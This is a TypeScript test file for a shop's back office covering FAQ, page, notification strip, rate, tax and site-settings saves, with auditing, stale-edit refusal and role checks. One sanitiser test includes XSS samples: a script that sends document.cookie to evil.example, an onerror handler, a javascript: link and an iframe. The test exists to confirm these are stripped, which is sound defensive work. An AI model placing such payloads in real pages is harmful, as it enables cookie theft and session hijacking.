import { randomBytes } from "node:crypto";
import { sql } from "kysely";
import { beforeAll, describe, expect, it } from "vitest";
import { auditTrail } from "~/models/audit/audit.server";
import { findPage } from "~/models/content/content.server";
import { createFaqEntry, createPage, notificationStrip, saveFaqText, saveStrip } from "~/models/content/content-edit.server";
import { faqEntry, faqPage } from "~/models/content/faq.server";
import { faqPageJsonLd } from "~/models/content/json-ld";
import { contentSitemapUrls } from "~/models/content/sitemap.server";
import { db } from "~/models/db/db.server";
import { seedDemoData } from "~/models/demo-data/index.server";
import { calculateShipping } from "~/models/calculator/calculator.server";
import { saveImportTax, staffImportTaxes } from "~/models/settings/import-taxes.server";
import { saveSiteSettings, staffSiteSettings } from "~/models/settings/site-settings.server";
import { saveCartRates, saveForwardingRates, staffCartRates, staffForwardingRates, staffForwardingRoute } from "~/models/settings/rates.server";
import { siteForHost } from "~/models/sites/sites.server";
import { action as faqEntryAction } from "~/routes/admin/content-faq-entry";
import { action as newFaqAction } from "~/routes/admin/content-faq";
import { action as pageAction } from "~/routes/admin/content-page";
import { action as stripAction } from "~/routes/admin/content-strip";
import { action as settingsAction } from "~/routes/admin/settings";
import { action as forwardingAction } from "~/routes/admin/settings-forwarding";
import { action as taxesAction } from "~/routes/admin/settings-taxes";
import { action as siteAction } from "~/routes/admin/settings-site";
import { loader as faqEntryPage } from "~/routes/content/faq-entry";
import { loader as faqListPage } from "~/routes/content/faq";
import { runAdmin } from "../../scripts/admin";
import { ORIGIN, context, signedInStaff, outcome } from "./staff-requests";

// The back office's content and rates (docs/back-office.md), on the embedded
// database and on PostgreSQL: the catalogue role writes an FAQ answer or a
// page in a language, published or a draft, through the shop's sanitiser;
// the shop shows it on the next request (and the shell's version moves, so
// every server's kept shell follows); an edit made on an old page is
// refused; every save is in the audit log. A cart rate that makes sea
// dearer than air is saved only when confirmed.

const unique = () => randomBytes(4).toString("hex");

beforeAll(async () => {
  await seedDemoData(db(), { products: 10, seed: 7 });
});

const post = (path: string, fields: Record<string, string>, cookie: string) => {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.set(name, value);
  return new Request(`${ORIGIN}${path}`, { method: "POST", headers: { cookie, origin: ORIGIN }, body: form });
};
const faqVersion = async (id: number) => (await db().selectFrom("faq_entries").select("updated_at").where("id", "=", id).executeTakeFirstOrThrow()).updated_at.toISOString();
const shellVersion = async () => Number((await sql<{ version: string }>`select version::text from shell_state`.execute(db())).rows[0]!.version);

/** A new FAQ entry made through its page, as the catalogue role makes one; its id. */
async function newEntry(cookie: string, category = "shipping") {
  const slug = `parcel-lockers-${unique()}`;
  const made = await outcome(async () => newFaqAction({ request: post("/admin/content/faq", { intent: "create", slug, category }, cookie), params: {}, context }));
  expect(made.status).toBe(303);
  const id = Number(/\/admin\/content\/faq\/(\d+)\?created$/.exec(made.location ?? "")?.[1]);
  expect(id).toBeGreaterThan(0);
  return { id, slug };
}

const LATVIAN = {
  intent: "save",
  locale: "lv",
  category: "shipping",
  question: "Vai varu saņemt sūtījumu pakomātā?",
  answer: "Jā. Izvēlieties pakomātu noformēšanas laikā.\n\n- Omniva\n- DPD\n\nSkatiet [piegādes noteikumus](/lv/faq).",
  seoTitle: "Sūtījums pakomātā",
  seoDescription: "Kā saņemt sūtījumu pakomātā Latvijā.",
  status: "published",
} as const;

describe("an FAQ entry written in the back office", () => {
  it("published in Latvian is on /lv/faq and its own page at once, with its FAQPage data, and the save is audited", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const { id, slug } = await newEntry(cookie);
    const saved = await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: "" }, cookie), params: { id: String(id) }, context }));
    // No version: the form is refused before anything is written.
    expect(saved.status).toBe(400);
    const done = await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: await faqVersion(id) }, cookie), params: { id: String(id) }, context }));
    expect(done).toMatchObject({ status: 303, location: `/admin/content/faq/${id}?lang=lv&saved` });

    // The page /lv/faq reads through its loader: the entry is under shipping, and in the FAQPage data.
    const list = (await faqListPage({ request: new Request(`${ORIGIN}/lv/faq`), params: { locale: "lv" }, context: {} })) as Awaited<ReturnType<typeof faqListPage>>;
    const shown = list.faq.entries.find((entry) => entry.slug === slug);
    expect(shown).toMatchObject({ question: LATVIAN.question, category: "shipping" });
    const jsonLd = faqPageJsonLd(list.faq.entries);
    expect(jsonLd.mainEntity).toContainEqual({
      "@type": "Question",
      name: LATVIAN.question,
      acceptedAnswer: { "@type": "Answer", text: "Jā. Izvēlieties pakomātu noformēšanas laikā.\n\nOmniva\nDPD\n\nSkatiet piegādes noteikumus." },
    });
    const own = (await faqEntryPage({ request: new Request(`${ORIGIN}/lv/faq/${slug}`), params: { locale: "lv", slug }, context: {} })) as Awaited<ReturnType<typeof faqEntryPage>>;
    expect(own.entry).toMatchObject({ question: LATVIAN.question, seo_title: LATVIAN.seoTitle, seo_description: LATVIAN.seoDescription });
    // Only in Latvian: the other languages have no text for it.
    expect((await faqPage("en", null)).entries.map((entry) => entry.slug)).not.toContain(slug);
    const site = await siteForHost("lv.localhost");
    expect(site.languages.map((l) => l.iso_code)).toContain("lv");
    expect((await contentSitemapUrls(site)).filter((url) => url.endsWith(`/faq/${slug}`))).toEqual([`${site.appUrl}/lv/faq/${slug}`]);

    const trail = await auditTrail("faq", id);
    expect(trail.map((entry) => [entry.action, entry.staff_email])).toEqual([
      ["content.faq.save", actor.email],
      ["content.faq.create", actor.email],
    ]);
    expect(trail[0]!.after).toMatchObject({ locale: "lv", question: LATVIAN.question, published: true, category: "shipping" });
    expect(trail[0]!.before).toEqual({ category: "shipping" });
  });

  it("as a draft is not shown anywhere, and shows once published", async () => {
    const { actor, cookie } = await signedInStaff("owner");
    const { id, slug } = await newEntry(cookie, "ordering");
    expect(await saveFaqText(actor, id, "lv", { ...LATVIAN, status: "draft" as const }, new Date(await faqVersion(id)))).toEqual({ ok: true, id });
    expect((await faqPage("lv", null)).entries.map((entry) => entry.slug)).not.toContain(slug);
    expect(await faqEntry("lv", slug)).toBeUndefined();
    expect((await outcome(async () => faqEntryPage({ request: new Request(`${ORIGIN}/lv/faq/${slug}`), params: { locale: "lv", slug }, context: {} }))).status).toBe(404);
    const site = await siteForHost("lv.localhost");
    expect((await contentSitemapUrls(site)).filter((url) => url.includes(slug))).toEqual([]);

    expect(await saveFaqText(actor, id, "lv", LATVIAN, new Date(await faqVersion(id)))).toEqual({ ok: true, id });
    expect((await faqEntry("lv", slug))?.question).toBe(LATVIAN.question);
    // …and a published text put back to draft goes again.
    expect(await saveFaqText(actor, id, "lv", { ...LATVIAN, status: "draft" as const }, new Date(await faqVersion(id)))).toEqual({ ok: true, id });
    expect(await faqEntry("lv", slug)).toBeUndefined();
  });

  it("keeps no HTML and no unsafe link: a script, an image's handler and a javascript: link are taken out as it is saved", async () => {
    const { cookie } = await signedInStaff("catalogue");
    const { id, slug } = await newEntry(cookie);
    const answer = 'Read this<script>fetch("https://evil.example/?c="+document.cookie)</script>.\n\n<img src=x onerror="alert(1)">[Pay here](javascript:alert%281%29) or [see the FAQ](/lv/faq)\n\n<!-- hidden -->**Done**';
    const done = await outcome(async () =>
      faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, question: "Safe? <b>Yes</b>", answer, version: await faqVersion(id) }, cookie), params: { id: String(id) }, context }),
    );
    expect(done.status).toBe(303);
    const stored = await faqEntry("lv", slug);
    expect(stored).toMatchObject({ question: "Safe? Yes", answer: "Read this.\n\nPay here or [see the FAQ](/lv/faq)\n\n**Done**" });

    // The preview is drawn from the same sanitised text, and saves nothing.
    const before = await faqVersion(id);
    const preview = await outcome(async () =>
      faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, intent: "preview", answer: "<iframe src=//evil.example></iframe>Plain", version: before }, cookie), params: { id: String(id) }, context }),
    );
    expect(preview.status).toBe(200);
    expect((preview.data as { preview: unknown }).preview).toEqual({ title: LATVIAN.question, body: "Plain", seoTitle: LATVIAN.seoTitle, seoDescription: LATVIAN.seoDescription });
    expect(await faqVersion(id)).toBe(before);
    expect((await faqEntry("lv", slug))?.answer).toContain("Read this.");
  });

  it("refuses an edit made on an older page, naming who changed it, and changes nothing", async () => {
    const first = await signedInStaff("catalogue");
    const second = await signedInStaff("owner");
    const { id, slug } = await newEntry(first.cookie);
    const seen = await faqVersion(id);
    // Both open the page; the first saves.
    const saved = await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: seen }, first.cookie), params: { id: String(id) }, context }));
    expect(saved.status).toBe(303);
    const stale = await outcome(async () =>
      faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, question: "Overwritten?", version: seen }, second.cookie), params: { id: String(id) }, context }),
    );
    expect(stale.status).toBe(409);
    expect(JSON.stringify(stale.data)).toContain(first.actor.email);
    expect((await faqEntry("lv", slug))?.question).toBe(LATVIAN.question);
    expect((await auditTrail("faq", id)).filter((entry) => entry.action === "content.faq.save")).toHaveLength(1);
    // Straight to the use case, the same.
    expect(await saveFaqText(second.actor, id, "lv", { ...LATVIAN, question: "Overwritten?" }, new Date(seen))).toMatchObject({ ok: false, error: "stale", by: first.actor.email });
  });

  it("a role without content is refused before anything is read", async () => {
    const { cookie } = await signedInStaff("operator");
    const entry = await createFaqEntry({ id: null, email: "command line", ip: null }, `other-${unique()}`, "other");
    expect(entry.ok).toBe(true);
    const id = entry.ok ? entry.id : 0;
    expect((await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: "x" }, cookie), params: { id: String(id) }, context }))).status).toBe(403);
  });

  it("npm run admin -- content faq-category is the same use case, audited as the command line", async () => {
    const { cookie } = await signedInStaff("catalogue");
    const { id, slug } = await newEntry(cookie, "ordering");
    const quiet = { out: () => {}, err: () => {} };
    expect(await runAdmin(["content", "faq-category", "--entry", slug, "--to", "returns"], quiet)).toBe(0);
    expect((await db().selectFrom("faq_entries").select("category").where("id", "=", id).executeTakeFirstOrThrow()).category).toBe("returns");
    expect((await auditTrail("faq", id))[0]).toMatchObject({ action: "content.faq.category", staff_email: "command line", before: { category: "ordering" }, after: { category: "returns" } });
  });
});

describe("a content page written in the back office", () => {
  it("published in a language is at its address at once, draft falls back to the shared page, and the shell's version moves", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const slug = `delivery-${unique()}`;
    const created = await createPage(actor, slug, null);
    expect(created.ok).toBe(true);
    const pageId = created.ok ? created.id : 0;
    const version = async () => (await db().selectFrom("pages").select("updated_at").where("id", "=", pageId).executeTakeFirstOrThrow()).updated_at.toISOString();
    const text = { intent: "save", locale: "lv", title: "Piegāde", seoTitle: "", description: "", slug: `piegade-${unique()}`, body: "## Pa gaisu\n\n5–9 dienas.", status: "published" };
    const shellBefore = await shellVersion();
    const saved = await outcome(async () => pageAction({ request: post(`/admin/content/pages/${pageId}`, { ...text, version: await version() }, cookie), params: { id: String(pageId) }, context }));
    expect(saved).toMatchObject({ status: 303, location: `/admin/content/pages/${pageId}?lang=lv&saved` });
    expect(await shellVersion()).toBeGreaterThan(shellBefore);

    const site = await siteForHost("lv.localhost");
    expect(await findPage(site.id, "lv", text.slug)).toMatchObject({ kind: "page", page: { slug, title: "Piegāde", seoTitle: "Piegāde", body: "## Pa gaisu\n\n5–9 dienas." } });
    // Its slug moves to its address in Latvian.
    expect(await findPage(site.id, "lv", slug)).toEqual({ kind: "moved", pageSlug: slug, path: `/${text.slug}` });

    // A site's own page of the same slug, as a draft, leaves the shared one shown.
    const siteCode = (await db().selectFrom("sites").select("code").where("id", "=", site.id).executeTakeFirstOrThrow()).code;
    const own = await createPage(actor, slug, siteCode);
    expect(own.ok).toBe(true);
    const ownId = own.ok ? own.id : 0;
    const ownVersion = (await db().selectFrom("pages").select("updated_at").where("id", "=", ownId).executeTakeFirstOrThrow()).updated_at.toISOString();
    const draft = await outcome(async () =>
      pageAction({ request: post(`/admin/content/pages/${ownId}`, { ...text, title: "Tikai šai vietnei", slug: "", status: "draft", version: ownVersion }, cookie), params: { id: String(ownId) }, context }),
    );
    expect(draft.status).toBe(303);
    expect(await findPage(site.id, "lv", text.slug)).toMatchObject({ kind: "page", page: { title: "Piegāde" } });

    // Another page may not take the same address in the same language.
    const other = await createPage(actor, `other-${unique()}`, null);
    const otherId = other.ok ? other.id : 0;
    const otherVersion = (await db().selectFrom("pages").select("updated_at").where("id", "=", otherId).executeTakeFirstOrThrow()).updated_at.toISOString();
    const clash = await outcome(async () => pageAction({ request: post(`/admin/content/pages/${otherId}`, { ...text, version: otherVersion }, cookie), params: { id: String(otherId) }, context }));
    expect(clash.status).toBe(409);

    expect((await auditTrail("page", pageId)).map((entry) => entry.action)).toEqual(["content.page.save", "content.page.create"]);
  });
});

describe("the notification strip", () => {
  it("says what the site wrote in that language, nothing when emptied, the shop's own text before; each save audited and moving the shell's version", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const site = await siteForHost("lv.localhost");
    const code = (await db().selectFrom("sites").select("code").where("id", "=", site.id).executeTakeFirstOrThrow()).code;
    expect(await notificationStrip(site.id, "lv")).toBeNull();
    const shellBefore = await shellVersion();
    const saved = await outcome(async () => stripAction({ request: post("/admin/content/strip", { intent: "strip", site: code, locale: "lv", version: "", text: "Bezmaksas piegāde <b>no 50 €</b>" }, cookie), params: {}, context }));
    expect(saved.status).toBe(303);
    expect(await notificationStrip(site.id, "lv")).toBe("Bezmaksas piegāde no 50 €");
    expect(await notificationStrip(site.id, "en")).toBeNull();
    expect(await shellVersion()).toBeGreaterThan(shellBefore);

    // A second first text, from a page that showed none, is stale.
    const again = await outcome(async () => stripAction({ request: post("/admin/content/strip", { intent: "strip", site: code, locale: "lv", version: "", text: "Cits" }, cookie), params: {}, context }));
    expect(again.status).toBe(409);
    const row = await db().selectFrom("notification_strips").select("updated_at").where("site_id", "=", site.id).executeTakeFirstOrThrow();
    expect(await saveStrip(actor, code, "lv", "", row.updated_at)).toEqual({ ok: true, id: site.id });
    expect(await notificationStrip(site.id, "lv")).toBe("");
    expect((await auditTrail("strip", `${code}:lv`)).map((entry) => [entry.action, entry.before, entry.after])).toEqual([
      ["content.strip", { text: "Bezmaksas piegāde no 50 €" }, { text: "" }],
      ["content.strip", null, { text: "Bezmaksas piegāde no 50 €" }],
    ]);
  });

  it("two staff writing a site's first text at once: one is saved, the other refused as stale", async () => {
    const [a, b] = await Promise.all([signedInStaff("catalogue"), signedInStaff("owner")]);
    const site = await siteForHost("ee.localhost");
    const code = (await db().selectFrom("sites").select("code").where("id", "=", site.id).executeTakeFirstOrThrow()).code;
    const results = await Promise.all([saveStrip(a.actor, code, "ee", "Esimene", null), saveStrip(b.actor, code, "ee", "Teine", null)]);
    expect(results.filter((result) => result.ok)).toHaveLength(1);
    expect(results.filter((result) => !result.ok && result.error === "stale")).toHaveLength(1);
    expect(await auditTrail("strip", `${code}:ee`)).toHaveLength(1);
  });
});

describe("the cart's rates in the back office", () => {
  const typed = { intent: "rates", airBase: "4,99", airPerKg: "6,50", airDivisor: "5000", airDiscount: "0", seaBase: "1,99", seaPerKg: "2,90", seaDivisor: "6000", seaDiscount: "10" };

  it("refuses a sea rate that prices a parcel above air unless confirmed, naming the parcel; a confirmed one is saved and audited", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const [site] = await staffCartRates();
    expect(site!.finding).toBeNull();
    const versions = { site: site!.site, airVersion: new Date(site!.air.updatedAt).toISOString(), seaVersion: new Date(site!.sea.updatedAt).toISOString() };
    const refused = await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions, seaDivisor: "1000" }, cookie), params: {}, context }));
    expect(refused.status).toBe(409);
    expect(JSON.stringify(refused.data)).toMatch(/Sea costs more than air for a parcel of [\d.,]+ k?g and [\d,]+ cm³/);
    expect((await staffCartRates())[0]!.sea.volumetricDivisor).toBe(6000);

    const confirmed = await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions, seaDivisor: "1000", confirm: "on" }, cookie), params: {}, context }));
    expect(confirmed).toMatchObject({ status: 303, location: `/admin/settings?saved=${site!.site}#rates-${site!.site}` });
    const after = (await staffCartRates())[0]!;
    expect(after.sea.volumetricDivisor).toBe(1000);
    expect(after.finding).not.toBeNull();
    const [entry] = await auditTrail("shipping_rates", site!.site);
    expect(entry).toMatchObject({ action: "settings.rates", staff_email: actor.email, before: { sea: { volumetricDivisor: 6000 } }, after: { sea: { volumetricDivisor: 1000 } } });
    expect((entry!.after as { confirmedSeaAboveAir?: unknown }).confirmedSeaAboveAir).toMatchObject({ weightGrams: expect.any(Number) });

    // The page that showed the old rates is stale now; put back from a fresh one.
    expect(await saveCartRates(actor, site!.site, { air: after.air, sea: { ...after.sea, volumetricDivisor: 6000 } }, { air: new Date(site!.air.updatedAt), sea: new Date(site!.sea.updatedAt) }, false)).toMatchObject({ ok: false, error: "stale" });
    expect(await saveCartRates(actor, site!.site, { air: after.air, sea: { ...after.sea, volumetricDivisor: 6000 } }, { air: after.air.updatedAt, sea: after.sea.updatedAt }, false)).toEqual({ ok: true });
    expect((await staffCartRates())[0]!.finding).toBeNull();
  });

  it("answers 400 for a missing or mistyped field, and 403 for a role without settings", async () => {
    const { cookie } = await signedInStaff("catalogue");
    expect((await outcome(async () => settingsAction({ request: post("/admin/settings", { intent: "rates" }, cookie), params: {}, context }))).status).toBe(400);
    const [site] = await staffCartRates();
    const versions = { site: site!.site, airVersion: new Date(site!.air.updatedAt).toISOString(), seaVersion: new Date(site!.sea.updatedAt).toISOString() };
    expect((await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions, airDiscount: "120" }, cookie), params: {}, context }))).status).toBe(400);
    const support = await signedInStaff("support");
    expect((await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions }, support.cookie), params: {}, context }))).status).toBe(403);
  });
});

describe("the calculator's forwarding rates in the back office", () => {
  const typed = {
    intent: "forwarding",
    airFirst: "12,90",
    airFirstKg: "1",
    airStep: "7,50",
    airStepKg: "0,5",
    airDivisor: "5000",
    airDaysMin: "5",
    airDaysMax: "9",
    seaFirst: "9,90",
    seaFirstKg: "1",
    seaStep: "2,90",
    seaStepKg: "1",
    seaDivisor: "6000",
    seaDaysMin: "30",
    seaDaysMax: "45",
  };
  /** A route of the demo, its versions as the page names them. */
  async function demoRoute() {
    const [first] = await staffForwardingRates();
    const route = (await staffForwardingRoute(first!.warehouse, first!.country))!;
    const path = `/admin/settings/forwarding/${route.warehouse}/${route.country}`;
    const params = { warehouse: route.warehouse, country: route.country };
    return { route, path, params, versions: { airVersion: route.air!.updatedAt.toISOString(), seaVersion: route.sea!.updatedAt.toISOString() } };
  }

  it("saves a route's air and sea rates from the form as the calculator prices them, audited, and refuses an old page's", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const { route, path, params, versions } = await demoRoute();
    const saved = await outcome(async () => forwardingAction({ request: post(path, { ...typed, ...versions }, cookie), params, context }));
    expect(saved).toMatchObject({ status: 303, location: `${path}?saved` });
    const after = (await staffForwardingRoute(route.warehouse, route.country))!;
    expect(after.air).toMatchObject({ firstMinor: 1290, firstWeightG: 1000, stepMinor: 750, stepG: 500, divisor: 5000, daysMin: 5, daysMax: 9 });
    expect(after.sea).toMatchObject({ firstMinor: 990, firstWeightG: 1000, stepMinor: 290, stepG: 1000, divisor: 6000, daysMin: 30, daysMax: 45 });
    expect(after.finding).toBeNull();
    // 2.2 kg by air: the first kilogram, then three started half-kilogram steps.
    const priced = await calculateShipping({ from: route.warehouse, to: route.country, valueMinor: 5000, grams: 2200, dimensions: null });
    expect(priced!.methods.find((method) => method.method === "air")).toMatchObject({ priceMinor: 1290 + 3 * 750, daysMin: 5, daysMax: 9 });
    const [entry] = await auditTrail("forwarding_rates", `${route.warehouse}-${route.country}`);
    expect(entry).toMatchObject({ action: "settings.forwarding_rates", staff_email: actor.email, before: { air: { firstMinor: route.air!.firstMinor } }, after: { air: { stepG: 500 } } });

    const stale = await outcome(async () => forwardingAction({ request: post(path, { ...typed, ...versions, airStep: "8,00" }, cookie), params, context }));
    expect(stale.status).toBe(409);
    expect((await staffForwardingRoute(route.warehouse, route.country))!.air!.stepMinor).toBe(750);
  });

  it("refuses a sea rate dearer than air for some parcel unless confirmed", async () => {
    const { actor } = await signedInStaff("owner");
    const { route } = await demoRoute();
    const seen = { air: route.air!.updatedAt, sea: route.sea!.updatedAt };
    const sea = { ...route.sea!, divisor: 1000 };
    const refused = await saveForwardingRates(actor, route, { air: route.air!, sea }, seen, false);
    expect(refused).toMatchObject({ ok: false, error: "sea_above_air", finding: { weightGrams: expect.any(Number) } });
    expect((await staffForwardingRoute(route.warehouse, route.country))!.sea!.divisor).toBe(route.sea!.divisor);
    expect(await saveForwardingRates(actor, route, { air: route.air!, sea }, seen, true)).toEqual({ ok: true });
    const after = (await staffForwardingRoute(route.warehouse, route.country))!;
    expect(after.finding).not.toBeNull();
    const [entry] = await auditTrail("forwarding_rates", `${route.warehouse}-${route.country}`);
    expect((entry!.after as { confirmedSeaAboveAir?: unknown }).confirmedSeaAboveAir).toMatchObject({ weightGrams: expect.any(Number) });
    expect(await saveForwardingRates(actor, route, { air: route.air!, sea: route.sea! }, { air: after.air!.updatedAt, sea: after.sea!.updatedAt }, false)).toEqual({ ok: true });
  });

  it("answers 400 for a mistyped weight or days in the wrong order, 404 for an unknown route, and 403 for a role without settings", async () => {
    const { cookie } = await signedInStaff("catalogue");
    const { route, path, params, versions } = await demoRoute();
    for (const wrong of [{ airStepKg: "half" }, { airStepKg: "0" }, { seaDaysMin: "50", seaDaysMax: "45" }, { airDivisor: "12" }]) {
      expect((await outcome(async () => forwardingAction({ request: post(path, { ...typed, ...versions, ...wrong }, cookie), params, context }))).status, JSON.stringify(wrong)).toBe(400);
    }
    expect((await staffForwardingRoute(route.warehouse, route.country))!.air).toMatchObject({ stepG: route.air!.stepG, divisor: route.air!.divisor });
    expect((await outcome(async () => forwardingAction({ request: post("/admin/settings/forwarding/xx/LT", { ...typed, ...versions }, cookie), params: { warehouse: "xx", country: "LT" }, context }))).status).toBe(404);
    const support = await signedInStaff("support");
    expect((await outcome(async () => forwardingAction({ request: post(path, { ...typed, ...versions }, support.cookie), params, context }))).status).toBe(403);
  });
});

describe("the calculator's import taxes in the back office", () => {
  it("saves a destination's VAT, duty and duty-free value as typed, audited, and the calculator's landed cost follows", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const [tax] = await staffImportTaxes("LT");
    const path = "/admin/settings/taxes/LT";
    const version = tax!.updatedAt.toISOString();
    const form = { intent: "taxes", version, vatRate: "25,5", dutyRate: "10", dutyFree: "0" };
    expect(await outcome(async () => taxesAction({ request: post(path, form, cookie), params: { country: "LT" }, context }))).toMatchObject({ status: 303, location: `${path}?saved` });
    const [after] = await staffImportTaxes("LT");
    expect(after).toMatchObject({ vatRate: "25.50", dutyRate: "10.00", dutyFreeMinor: 0 });
    const [entry] = await auditTrail("import_taxes", "LT");
    expect(entry).toMatchObject({ action: "settings.import_taxes", staff_email: actor.email, before: { vatRate: tax!.vatRate }, after: { vatRate: "25.50", dutyRate: "10.00", dutyFreeMinor: 0 } });

    // €100 of goods from the United States: duty 10% of goods and shipping, VAT 25.5% of goods, shipping and duty.
    const priced = (await calculateShipping({ from: "us", to: "LT", valueMinor: 10_000, grams: 1000, dimensions: null }))!;
    const air = priced.methods.find((method) => method.method === "air")!;
    const duty = Math.round((10_000 + air.priceMinor) * 0.1);
    expect(air.landed.dutyMinor).toBe(duty);
    expect(air.landed.vatMinor).toBe(Math.round((10_000 + air.priceMinor + duty) * 0.255));

    // The page that showed the old rates is stale now.
    expect((await outcome(async () => taxesAction({ request: post(path, { ...form, vatRate: "21" }, cookie), params: { country: "LT" }, context }))).status).toBe(409);
    expect(await saveImportTax(actor, "LT", { vatRate: tax!.vatRate, dutyRate: tax!.dutyRate, dutyFreeMinor: tax!.dutyFreeMinor }, after!.updatedAt)).toEqual({ ok: true });
  });

  it("answers 400 for a rate of 100 or more or mistyped, 404 for a country without taxes, and 403 for a role without settings", async () => {
    const { cookie } = await signedInStaff("catalogue");
    const [tax] = await staffImportTaxes("LV");
    const form = { intent: "taxes", version: tax!.updatedAt.toISOString(), vatRate: "21", dutyRate: "4", dutyFree: "150" };
    for (const wrong of [{ vatRate: "100" }, { vatRate: "21.555" }, { dutyRate: "-4" }, { dutyFree: "lots" }]) {
      expect((await outcome(async () => taxesAction({ request: post("/admin/settings/taxes/LV", { ...form, ...wrong }, cookie), params: { country: "LV" }, context }))).status, JSON.stringify(wrong)).toBe(400);
    }
    expect((await staffImportTaxes("LV"))[0]).toMatchObject({ vatRate: tax!.vatRate, dutyRate: tax!.dutyRate });
    expect((await outcome(async () => taxesAction({ request: post("/admin/settings/taxes/US", form, cookie), params: { country: "US" }, context }))).status).toBe(404);
    const support = await signedInStaff("support");
    expect((await outcome(async () => taxesAction({ request: post("/admin/settings/taxes/LV", form, support.cookie), params: { country: "LV" }, context }))).status).toBe(403);
  });
});

describe("a site's settings in the back office", () => {
  /** The site's form as the page fills it, with `changes` on top. */
  async function siteForm(code: string, changes: Record<string, string | string[]> = {}) {
    const site = (await staffSiteSettings(code))!;
    const form = new URLSearchParams({ intent: "site", version: site.updatedAt.toISOString(), name: site.name, criteo: site.criteoKey ?? "", klaviyo: site.klaviyoKey ?? "" });
    for (const feature of ["marketplace", "dealzone", "search", "about_us", "purchase_agreement"] as const) if (site.features[feature]) form.set(feature, "on");
    for (const currency of site.currencies.filter((c) => c.chosen)) form.append("currencies", currency.isoCode);
    for (const [name, value] of Object.entries(changes)) {
      form.delete(name);
      for (const one of [value].flat()) if (one !== "") form.append(name, one);
    }
    return { site, form: Object.fromEntries([...new Set(form.keys())].map((name) => [name, form.getAll(name).length > 1 ? form.getAll(name) : form.get(name)!])) };
  }
  /** A post whose fields may repeat (the currencies' boxes). */
  const postRepeated = (path: string, form: Record<string, string | string[]>, cookie: string) => {
    const body = new FormData();
    for (const [name, value] of Object.entries(form)) for (const one of [value].flat()) body.append(name, one);
    return new Request(`${ORIGIN}${path}`, { method: "POST", headers: { cookie, origin: ORIGIN }, body });
  };

  it("saves a site's name, features, currencies and tag ids from the form; the shop's site follows on its next request, and the save is audited", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const { site, form } = await siteForm("pj", { name: "Preloved Junction Outlet", dealzone: "", currencies: ["EUR", "GBP"], gtm_lt: "GTM-AB12CD", pixel_lt: "1234567, 7654321", agent_lt: "preloved:ab12cd34", criteo: "4321" });
    expect(site.conversionCurrency).toBe("EUR");
    const saved = await outcome(async () => siteAction({ request: postRepeated("/admin/settings/sites/pj", form, cookie), params: { code: "pj" }, context }));
    expect(saved, JSON.stringify(saved.data)).toMatchObject({ status: 303, location: "/admin/settings/sites/pj?saved" });
    const shop = await siteForHost("pj.localhost");
    expect(shop.name).toBe("Preloved Junction Outlet");
    expect(shop.features).toMatchObject({ dealzone: false, marketplace: site.features.marketplace });
    expect(shop.currencies.map((currency) => currency.iso_code)).toEqual(["EUR", "GBP"]);
    expect(shop.criteo_key).toBe("4321");
    expect(shop.languages.find((language) => language.iso_code === "lt")?.pivot).toMatchObject({ gtm_id: "GTM-AB12CD", pixel_id: "1234567, 7654321", live_agent_id: "preloved:ab12cd34" });
    const [entry] = await auditTrail("sites", "pj");
    expect(entry).toMatchObject({ action: "settings.site", staff_email: actor.email, before: { name: site.name }, after: { name: "Preloved Junction Outlet", currencies: ["EUR", "GBP"] } });

    // An edit from the page as it was is refused as stale; put back from a fresh one.
    expect((await outcome(async () => siteAction({ request: postRepeated("/admin/settings/sites/pj", { ...form, name: "Another" }, cookie), params: { code: "pj" }, context }))).status).toBe(409);
    const restored = await saveSiteSettings(
      actor,
      "pj",
      { name: site.name, features: site.features, currencies: site.currencies.filter((c) => c.chosen).map((c) => c.isoCode), criteoKey: site.criteoKey, klaviyoKey: site.klaviyoKey, tags: Object.fromEntries(site.languages.map((l) => [l.isoCode, { gtmId: l.gtmId, pixelId: l.pixelId, liveAgentId: l.liveAgentId }])) },
      (await staffSiteSettings("pj"))!.updatedAt,
    );
    expect(restored).toEqual({ ok: true });
    expect((await siteForHost("pj.localhost")).name).toBe(site.name);
  });

  it("refuses, changing nothing: no currency, the conversion currency left out, an id in the wrong format, a name too long; 404 for an unknown site and 403 for a role without settings", async () => {
    const { cookie } = await signedInStaff("owner");
    const before = (await staffSiteSettings("pj"))!;
    const answers: Record<string, number> = {};
    const cases: Record<string, Record<string, string | string[]>> = {
      "no currency": { currencies: "" },
      "a tag id": { gtm_en: "UA-12345" },
      "a pixel id": { pixel_en: "123, abc" },
      "a live chat": { agent_en: "no colon" },
      "a long name": { name: "x".repeat(61) },
      "no conversion currency": { currencies: ["USD", "GBP"] },
    };
    for (const [name, changes] of Object.entries(cases)) {
      const { form } = await siteForm("pj", changes);
      answers[name] = (await outcome(async () => siteAction({ request: postRepeated("/admin/settings/sites/pj", form, cookie), params: { code: "pj" }, context }))).status;
    }
    expect(answers).toEqual({ "no currency": 400, "a tag id": 400, "a pixel id": 400, "a live chat": 400, "a long name": 400, "no conversion currency": 409 });
    expect(await staffSiteSettings("pj")).toEqual(before);
    const { form } = await siteForm("pj");
    expect((await outcome(async () => siteAction({ request: postRepeated("/admin/settings/sites/zz", form, cookie), params: { code: "zz" }, context }))).status).toBe(404);
    const support = await signedInStaff("support");
    expect((await outcome(async () => siteAction({ request: postRepeated("/admin/settings/sites/pj", form, support.cookie), params: { code: "pj" }, context }))).status).toBe(403);
  });
});
